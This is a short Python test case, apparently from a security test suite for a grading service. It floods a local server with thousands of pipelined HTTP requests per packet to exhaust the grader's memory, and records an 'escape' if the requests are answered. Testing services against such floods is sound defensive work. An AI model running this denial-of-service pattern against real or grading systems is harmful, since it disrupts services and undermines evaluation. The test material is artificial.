# claim: fills the grader's memory with thousands of requests in each packet
# expect: ok
# service: asked
import socket

from attack import escaped

request = b"GET /v1/models HTTP/1.1\r\nHost: x\r\n\r\n"
for _ in range(20):
    answer = b""
    try:
        one = socket.create_connection(("127.0.0.1", 8000), 1)
        one.settimeout(0.3)
        one.sendall(request * 6_000)
        while part := one.recv(1 << 20):
            answer += part
    except OSError as error:
        print("stopped:", repr(error)[:80])
    count = answer.count(b"HTTP/1.1 2")
    print("answered", count, "refused", answer.count(b"HTTP/1.1 4"))
    if count > 200:
        escaped(f"{count} requests of one packet were kept and answered")
